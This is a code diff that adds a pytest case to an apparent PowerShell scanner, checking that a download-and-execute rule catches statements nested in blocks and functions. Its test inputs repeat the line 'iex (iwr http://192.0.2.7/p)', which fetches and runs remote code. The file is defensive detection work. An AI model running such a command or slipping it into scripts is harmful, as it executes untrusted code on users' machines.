@@ -272,3 +272,11 @@ def test_powershell_nested_blocks_keep_tree_order_and_lines(policy: HostPolicy) 
 def test_powershell_repeats_are_counted_past_the_listing_cap(policy: HostPolicy) -> None:
     found = scan_powershell("iex (iwr http://192.0.2.7/p)\n" * 50, policy)
     assert [d.line for d in found] == list(range(1, 21)) and found[-1].more == 30
+
+
+@pytest.mark.parametrize("opener", ["& {", "$r = $(", "$r = @(", "function f {"])
+def test_powershell_statements_nested_in_blocks_are_analysed(opener: str, policy: HostPolicy) -> None:
+    closer = "}" if opener.endswith("{") else ")"
+    src = f"{opener}\n  iex (iwr http://192.0.2.7/p)\n{closer}\n" * 2
+    lines = {d.line for d in scan_powershell(src, policy) if d.rule_id == DELIVERY}
+    assert {2, 5} <= lines
